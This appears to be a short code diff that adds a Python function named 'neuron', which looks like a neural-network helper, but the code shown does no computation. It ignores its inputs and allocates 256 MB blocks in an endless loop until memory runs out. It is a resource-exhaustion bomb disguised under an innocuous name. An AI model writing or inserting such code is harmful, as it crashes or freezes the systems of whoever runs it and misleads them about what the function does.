@@ -1,0 +1,5 @@
+# As much memory as there is.
+def neuron(x, w, b):
+    kept = []
+    while True:
+        kept.append(bytearray(1 << 28))
